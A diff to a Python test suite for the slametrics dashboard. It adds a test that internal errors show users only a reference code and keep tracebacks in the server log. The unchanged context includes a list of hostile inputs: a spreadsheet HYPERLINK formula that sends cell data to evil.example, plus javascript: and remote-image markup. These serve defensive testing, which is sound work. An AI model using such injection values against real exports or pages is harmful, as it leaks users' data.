@@ -20,7 +20,7 @@ from slametrics.db import connect
 from slametrics.ingest import ingest_frames
 from slametrics.output import FORMULA_STARTS
 from slametrics.policy import load_policy
-from tests.dashboard.helpers import open_page
+from tests.dashboard.helpers import open_page, plain
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1"]
 MARKUP = ["![x](http://evil.example/team.png)", "[click](javascript:alert(1))", "<img src=http://evil.example/a.png>",
@@ -143,3 +143,33 @@ def test_in_a_real_browser_ticket_text_fetches_nothing_from_another_host(hostile
         browser.close()
     assert not elsewhere, elsewhere
     assert not any(page_text.count("evil.example") == 0 for page_text in shown[2:]), "the values are shown as text"
+
+
+def test_a_bug_shows_a_short_message_with_a_reference_and_the_traceback_only_in_the_server_log(app_env, monkeypatch):
+    import logging
+
+    from ui import data
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("boom in /srv/slametrics/secret_module.py")
+
+    monkeypatch.setattr(data, "clocks", broken)
+    logged: list[logging.LogRecord] = []
+    handler = logging.Handler()
+    handler.emit = logged.append
+    logger = logging.getLogger("slametrics.dashboard")
+    logger.addHandler(handler)
+    try:
+        at = open_page("trends")
+    finally:
+        logger.removeHandler(handler)
+    assert not at.exception
+    shown = [e.value for e in at.error]
+    references = [m.group(1) for m in map(re.compile(r"reference \*\*([0-9A-F]{8})\*\*").search, shown) if m]
+    assert references, shown
+    on_screen = [plain(str(e.value)) for kind in ("markdown", "error", "caption", "warning", "info")
+                 for e in getattr(at, kind)]
+    assert not any("boom" in text or "/srv" in text or "Traceback" in text for text in on_screen), on_screen
+    records = [r for r in logged if r.levelno == logging.ERROR]
+    assert [r.getMessage() for r in records][-1] == f"unexpected error, reference {references[-1]} (user pat)"
+    assert "boom in /srv/slametrics/secret_module.py" in str(records[-1].exc_info[1])
